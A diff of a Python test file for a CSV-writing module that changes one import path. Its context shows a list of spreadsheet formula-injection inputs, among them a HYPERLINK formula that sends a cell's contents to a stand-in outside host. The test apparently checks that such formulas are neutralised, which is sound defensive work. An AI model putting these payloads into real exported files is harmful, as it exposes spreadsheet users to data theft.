@@ -9,7 +9,7 @@ import numpy as np
 import pytest
 
 from tests.conftest import Command, record
-from tunenet_logs.csv_lines import csv_line, text_of
+from tunenet_logs.files import csv_line, text_of
 
 TEXTS = [
     '=HYPERLINK("http://example.org/?"&A1,"click")', "=1+1", "+1+1", "-1+1", "-", "@SUM(A1)",
